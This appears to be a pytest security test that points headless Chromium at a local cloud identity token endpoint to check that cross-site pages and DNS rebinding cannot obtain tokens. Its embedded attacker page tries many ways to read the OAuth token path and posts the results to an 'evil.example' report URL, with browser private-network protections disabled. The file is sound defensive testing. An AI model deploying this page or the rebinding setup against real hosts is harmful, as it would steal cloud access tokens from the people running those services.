# SPDX-License-Identifier: Apache-2.0
"""Web pages that reach for the local identity endpoint, in a real browser (Chromium, headless):
cross-site requests of every kind, and DNS rebinding."""
import http.server
import json
import os
import shutil
import signal
import subprocess
import threading
import urllib.parse

import pytest
from harness.process import wait_for

BROWSER = shutil.which("chromium-headless-shell")
pytestmark = pytest.mark.skipif(not BROWSER, reason="chromium-headless-shell is not installed")
TOKEN = "/metadata/identity/oauth2/token?api-version=2020-06-01&resource=https://x.example.com"

# Every attempt says what it got; "" is nothing. What it could read is the outcome of the attack.
PAGE = """<!doctype html><meta name=referrer content=no-referrer><body><script>
const base = %(base)s, path = %(path)s, out = {};
const get = async (name, url, how) => {
  try { const a = await fetch(url, how); out[name] = a.type + ":" + a.status + ":" + await a.text(); }
  catch (e) { out[name] = ""; }
};
const load = (tag, attribute, url) => new Promise(done => {
  const e = document.createElement(tag);
  e.onload = () => done("loaded"); e.onerror = () => done("");
  e[attribute] = url; document.body.append(e); setTimeout(() => done(""), 3000);
});
(async () => {
  const headers = { "Metadata": "true" };
  await get("plain", base + path);
  await get("with the header", base + path, { headers });
  await get("without CORS", base + path, { mode: "no-cors", headers });
  await get("same origin only", base + path, { mode: "same-origin", headers });
  await get("status", base + "/agentstatus");
  await get("status without CORS", base + "/agentstatus", { mode: "no-cors" });
  await get("posted", base + path, { method: "POST", body: "x" });
  await get("with a key", base + path, { headers: { ...headers, Authorization: "Basic x" } });
  out.script = await load("script", "src", base + "/agentstatus");
  out.image = await load("img", "src", base + path);
  out.stylesheet = await new Promise(done => {
    const e = document.createElement("link");
    e.rel = "stylesheet"; e.href = base + path; e.onload = () => done("loaded");
    e.onerror = () => done(""); document.head.append(e); setTimeout(() => done(""), 3000);
  });
  out.beacon = navigator.sendBeacon(base + path, "x") ? "" : "";
  out.frame = await new Promise(done => {
    const e = document.createElement("iframe");
    e.onload = () => { try { done(e.contentDocument ? e.contentDocument.body.innerText : ""); }
                       catch (x) { done(""); } };
    e.src = base + path; document.body.append(e); setTimeout(() => done(""), 3000);
  });
  try { new WebSocket(base.replace("http", "ws") + path); } catch (e) { }
  await fetch(%(report)s, { method: "POST", mode: "no-cors", body: JSON.stringify(out) });
})();
</script>"""


class Attacker:
    """A web site that serves the page and hears what came of it."""

    def __init__(self, address, port):
        self.reports = []
        self.page = b""
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.answer(outer.page if self.path == "/" else b"nothing here")

            def do_POST(self):
                said = self.rfile.read(int(self.headers["Content-Length"]))
                if self.path == "/report":
                    outer.reports.append(json.loads(said))
                self.answer(b"")

            def answer(self, body):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                kept = "public, max-age=86400, immutable" if self.path == "/" else "no-store"
                self.send_header("Cache-Control", kept)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer((address, port), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def fill(self, base, report):
        self.page = (PAGE % {"base": json.dumps(base), "path": json.dumps(TOKEN),
                             "report": json.dumps(report)}).encode()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


def browse(profile, url, rules, until):
    """Opens the page, with names led where rules say, until something happened."""
    browser = subprocess.Popen(
        [BROWSER, "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage",
         f"--user-data-dir={profile}", f"--host-resolver-rules={rules}", "--remote-debugging-port=0",
         "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults,"
         "BlockInsecurePrivateNetworkRequests", url],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env={**os.environ, "HOME": profile},
        start_new_session=True)
    try:
        wait_for(until, 60, "the page to report")
    finally:
        # The command is a script whose browser has children of its own.
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait(20)


def keys(machine):
    return list((machine.state / "tokens").glob("*.key"))


def port_of(machine):
    return urllib.parse.urlsplit(machine.himds).port


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "evil.example"])
def test_page_of_another_site_learns_nothing_and_makes_no_key(served, workspace, host):
    site = Attacker("127.0.0.1", 0)
    try:
        site.fill(f"http://{host}:{port_of(served)}", f"http://evil.example:{site.port}/report")
        browse(str(workspace.path / "profile"), f"http://evil.example:{site.port}/",
               "MAP evil.example 127.0.0.1", lambda: site.reports)
        readable = {k: v for k, v in site.reports[0].items() if v and not v.startswith("opaque:0:")}
        assert readable == {}
        assert len(site.reports[0]) == 13  # every attempt was made
        assert keys(served) == []
    finally:
        site.stop()


def test_name_led_here_after_its_page_was_loaded_learns_nothing(served, workspace):
    """DNS rebinding: page and endpoint are one origin for the browser, header and all."""
    port = port_of(served)
    profile = str(workspace.path / "profile")
    origin = f"http://evil.example:{port}"
    site = Attacker("127.0.0.2", port)  # the address that the name has at first
    hears = Attacker("127.0.0.1", 0)
    try:
        site.fill(origin, f"http://report.example:{hears.port}/report")
        rules = "MAP evil.example {}, MAP report.example 127.0.0.1"
        browse(profile, origin + "/", rules.format("127.0.0.2"), lambda: hears.reports)
        assert "with the header" in hears.reports[0]
        hears.reports.clear()
        # The page comes from the browser's cache; what it asks for comes from the endpoint.
        browse(profile, origin + "/", rules.format("127.0.0.1"), lambda: hears.reports)
        for attempt, got in hears.reports[0].items():
            assert "access_token" not in got and "resourceId" not in got, attempt
        for attempt in ("plain", "with the header", "status", "with a key"):
            status = hears.reports[0][attempt].split(":")[1]
            assert status == "403" and "invalid_host" in hears.reports[0][attempt], attempt
        assert keys(served) == []
    finally:
        site.stop()
        hears.stop()
